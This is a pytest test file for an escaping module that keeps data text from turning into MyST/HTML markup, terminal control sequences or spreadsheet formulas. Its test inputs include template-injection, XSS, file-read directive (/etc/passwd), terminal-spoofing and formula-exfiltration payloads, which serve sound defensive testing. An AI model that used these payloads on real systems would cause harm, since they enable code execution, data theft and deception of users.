"""Data text reaches each target as text only (analysis.contract.escape)."""

from __future__ import annotations

import ast
import re

import pytest
from markdown_it.renderer import RendererHTML
from myst_parser.config.main import MdParserConfig
from myst_parser.parsers.mdit import create_md_parser

from analysis.contract import escape

# The MyST syntax the book's configuration enables (_config.yml), and more.
MYST = create_md_parser(MdParserConfig(enable_extensions={"colon_fence", "deflist",
                                                          "substitution", "dollarmath"}),
                        RendererHTML)

HOSTILE = [
    '{{ cycler.__init__.__globals__.os.system("id > /tmp/x") }}',
    "```{literalinclude} ../../../../etc/passwd\n```",
    "```{eval-rst}\n.. raw:: html\n   :file: /etc/passwd\n```",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "{download}`x </etc/passwd>`",
    ":::{note}\nx\n:::",
    "# heading",
    "- item",
    "1. item",
    "    indented code",
    "$x$ and $$y$$",
    "&lt;b&gt; &#x3C;",
    "term\n: definition",
    "a | b\n--|--\nc | d",
    "<https://example.org>",
    "***bold*** _em_ `code`",
]


def rendered_text(source: str) -> str:
    """The text a MyST source displays, when it is one plain paragraph (else the HTML)."""
    out = MYST.render(source).strip()
    if out.startswith("<p>") and out.endswith("</p>") and "<" not in out[3:-4]:
        import html
        return html.unescape(out[3:-4])
    return out


@pytest.mark.parametrize("text", HOSTILE)
def test_myst_text_displays_exactly_the_text(text):
    assert rendered_text(escape.myst_text(text)) == " ".join(text.split())


def test_myst_paragraphs_keep_paragraphs_and_nothing_else():
    text = "First <b>paragraph</b>\nstill first.\n\n```{eval-rst}\n.. raw:: html\n```"
    out = MYST.render(escape.myst_paragraphs(text))
    assert out.count("<p>") == 2
    assert "&lt;b&gt;paragraph" in out and "<b>" not in out and "<pre" not in out


def test_control_characters_never_reach_a_page():
    assert escape.myst_text("a\x00b\x1b[2Jc") == "a\ufffdb\ufffd\\[2Jc"
    assert escape.html_text("<a href='x'>\x07") == "&lt;a href=&#x27;x&#x27;&gt;\ufffd"


def test_terminal_text_shows_controls_and_invisible_characters():
    fake = "\x1b]0;owned\x07\x1b[2J\rthe data package is valid.\u200b\ufeff\u202e"
    shown = escape.terminal_text(fake)
    assert "\x1b" not in shown and "\r" not in shown and "\x07" not in shown
    assert shown.startswith("\\x1b]0;owned\\x07\\x1b[2J\\r")
    assert shown.endswith("<U+200B><U+FEFF><U+202E>")


def test_terminal_text_is_cut_and_says_so():
    assert escape.terminal_text("x" * 250, limit=200) == "x" * 200 + "... (50 more characters)"


def test_lookalikes_name_the_letter_of_the_other_script():
    assert escape.lookalikes("S\u043001") == ["'\u0430' (U+0430 CYRILLIC SMALL LETTER A)"]
    assert escape.lookalikes("S01") == [] and escape.lookalikes("Москва") == []


@pytest.mark.parametrize("cell, shown", [
    ('=HYPERLINK("http://x/?leak","click")', '\'=HYPERLINK("http://x/?leak","click")'),
    ("@SUM(1+1)", "'@SUM(1+1)"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"),
    ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("-0.5", "-0.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("plain", "plain"), (-0.5, -0.5),
    (None, None),
])
def test_spreadsheet_cells_never_start_a_formula(cell, shown):
    assert escape.spreadsheet_cell(cell) == shown


# ------------------------------------------------------------- the Myst type


def test_myst_escapes_everything_that_is_not_myst():
    Myst = escape.Myst
    label = "*x* {{ y }} <b>"
    made = Myst("the setting *{}* ({:.1f}%)").format(label, 12.345)
    assert isinstance(made, Myst)
    assert MYST.render(made).count("<em>") == 1  # ours; the label's asterisks are text
    assert "{{ y }}" in rendered_text(Myst("{}").format(label))
    assert "12.3%" in made
    joined = Myst(", ").join(["<i>", Myst("**b**")])
    assert joined == "\\<i\\>, **b**"
    assert Myst("a ") + "<i>" == "a \\<i\\>" and "<i>" + Myst(" a") == "\\<i\\> a"
    assert isinstance(Myst("a") + "b", Myst) and isinstance("b" + Myst("a"), Myst)
    with pytest.raises(TypeError):
        Myst("%s") % "x"
    assert not isinstance(Myst("abc").upper(), Myst)  # a str method's result is plain text
    assert Myst("abc").upper_first() == "Abc" and isinstance(Myst("a").upper_first(), Myst)


def test_names_roles_and_code_are_taken_only_as_written():
    assert escape.myst_name("fig_theme_support") == "fig_theme_support"
    for bad in ("a b", "x`y", "a\nb", "", "{x}"):
        with pytest.raises(ValueError):
            escape.myst_name(bad)
    assert escape.myst_role("cite:p", "smith2020") == "{cite:p}`smith2020`"
    code = 'load_package("a ```\n```{eval-rst}\n.. raw:: html\n```")'
    block = escape.myst_code_block(code, "python")
    out = MYST.render(block)
    assert out.count("<pre>") == 1 and "eval-rst" in out and "<p>" not in out


def test_a_page_displays_only_myst():
    from analysis.chapters.words import markdown

    with pytest.raises(TypeError):
        markdown("**plain text from anywhere**")
    assert markdown(escape.Myst("**ours**")).data == "**ours**"
    assert markdown(escape.Myst(" ")) is None and markdown(escape.Myst(""), empty=False).data == ""


def _python_files():
    from analysis import paths

    return sorted(p for p in paths.PACKAGE.rglob("*.py") if "__pycache__" not in p.parts)


def _called(node, name: str) -> bool:
    func = node.func
    return (isinstance(func, ast.Name) and func.id == name) or (
        isinstance(func, ast.Attribute) and func.attr == name)


def test_data_text_reaches_a_page_only_through_myst():
    """The boundary, checked on the source: IPython's Markdown is made in one place
    (chapters/words.py, which takes only Myst); Myst is made from string literals only
    (never an f-string, a name or a call: anything else is data text and goes through
    Myst.format, join or +, which escape it); the private constructor stays private."""
    from analysis import paths

    problems = []
    words = paths.PACKAGE / "chapters" / "words.py"
    escape_module = paths.PACKAGE / "contract" / "escape.py"
    for path in _python_files():
        where = path.relative_to(paths.ROOT)
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            line = getattr(node, "lineno", "?")
            if isinstance(node, ast.Call) and _called(node, "Markdown") and path != words:
                problems.append(f"{where}:{line}: Markdown(...) outside chapters/words.py")
            if isinstance(node, ast.Constant) and node.value in ("text/markdown",
                                                                  "_repr_markdown_"):
                problems.append(f"{where}:{line}: a Markdown MIME type outside words.markdown")
            if isinstance(node, ast.FunctionDef) and node.name == "_repr_markdown_":
                problems.append(f"{where}:{line}: _repr_markdown_ outside words.markdown")
            if isinstance(node, ast.Call) and _called(node, "Myst"):
                literal = (not node.keywords and len(node.args) <= 1 and all(
                    isinstance(a, ast.Constant) and isinstance(a.value, str) for a in node.args))
                if not literal:
                    problems.append(f"{where}:{line}: Myst(...) of something other than a "
                                    "string literal (use Myst(\"...\").format(...))")
            if path != escape_module and (
                    (isinstance(node, ast.Name) and node.id == "_trusted")
                    or (isinstance(node, ast.Attribute) and node.attr == "_trusted")
                    or (isinstance(node, ast.alias) and node.name == "_trusted")):
                problems.append(f"{where}:{line}: escape._trusted used outside escape.py")
            if (path != escape_module and isinstance(node, ast.Call)
                    and _called(node, "__new__")
                    and any(isinstance(a, ast.Name) and a.id == "Myst" for a in node.args)):
                problems.append(f"{where}:{line}: a Myst made without its constructor")
    assert problems == []


def test_notebooks_make_no_markdown_of_their_own():
    import json

    from analysis import paths

    found = []
    for notebook in sorted(paths.NOTEBOOKS.glob("*.ipynb")):
        for cell in json.loads(notebook.read_text(encoding="utf-8"))["cells"]:
            source = "".join(cell.get("source", []))
            if cell["cell_type"] == "code" and re.search(
                    r"\bMarkdown\(|display_markdown|text/markdown", source):
                found.append(notebook.name)
    assert found == []
